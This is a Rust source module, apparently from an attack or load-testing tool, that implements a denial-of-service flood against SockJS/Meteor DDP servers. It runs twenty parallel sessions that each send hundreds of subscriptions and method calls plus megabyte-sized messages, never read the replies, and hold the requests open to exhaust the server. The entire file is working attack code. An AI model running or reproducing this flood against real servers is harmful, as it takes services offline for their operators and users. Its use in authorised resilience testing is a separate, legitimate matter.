//! SockJS sessions that ask for much and never poll: the answers wait, and behind them more messages.

use serde_json::json;

use crate::Failure;
use crate::attack::{Attack, in_parallel};
use crate::http::{exchange, is_success, send_only};
use crate::visitor::OPEN_METHOD;

const SESSIONS: usize = 20;
pub(crate) const SUBSCRIPTIONS: usize = 500;
pub(crate) const CALLS: usize = 500;

/// Large messages behind the first ones, in one request.
const MESSAGES: usize = 14;
const MESSAGE_BYTES: usize = 1_000_000;

pub(super) fn flood(attack: &Attack) {
    let bodies = [frames(questions()), frames(large_messages())];
    in_parallel(SESSIONS, |session| {
        let path = format!("/sockjs/000/unread{session}");
        attack.attempt(|| open(attack, &format!("{path}/xhr")));
        for body in &bodies {
            // The server answers when it has room for the messages, and until then keeps the request.
            let sent = attack.attempt(|| send_only(attack.route(), "POST", &format!("{path}/xhr_send"), body));
            if let Some(stream) = sent {
                attack.hold(stream);
            }
        }
    });
}

fn open(attack: &Attack, path: &str) -> Result<(), Failure> {
    let status = exchange(attack.route(), "POST", path, "")?;
    if is_success(status) { Ok(()) } else { Err(format!("answered with {status}").into()) }
}

/// What makes more answers than a server keeps for a client that does not read.
pub(crate) fn questions() -> impl Iterator<Item = String> {
    let connect = json!({ "msg": "connect", "version": "1", "support": ["1"] });
    let subscribe =
        |number| json!({ "msg": "sub", "id": format!("s{number}"), "name": "settings:public", "params": [] });
    let call = |number| json!({ "msg": "method", "id": format!("c{number}"), "method": OPEN_METHOD, "params": [] });
    let all = [connect].into_iter().chain((0..SUBSCRIPTIONS).map(subscribe)).chain((0..CALLS).map(call));
    all.map(|message| message.to_string())
}

fn large_messages() -> impl Iterator<Item = String> {
    let parameters = ["x".repeat(MESSAGE_BYTES)];
    let call = move |number| json!({ "msg": "method", "id": format!("m{number}"), "method": OPEN_METHOD, "params": parameters });
    (0..MESSAGES).map(move |number| call(number).to_string())
}

/// The body of a request that sends messages: an array of texts.
pub(crate) fn frames(messages: impl IntoIterator<Item = String>) -> String {
    json!(messages.into_iter().collect::<Vec<_>>()).to_string()
}
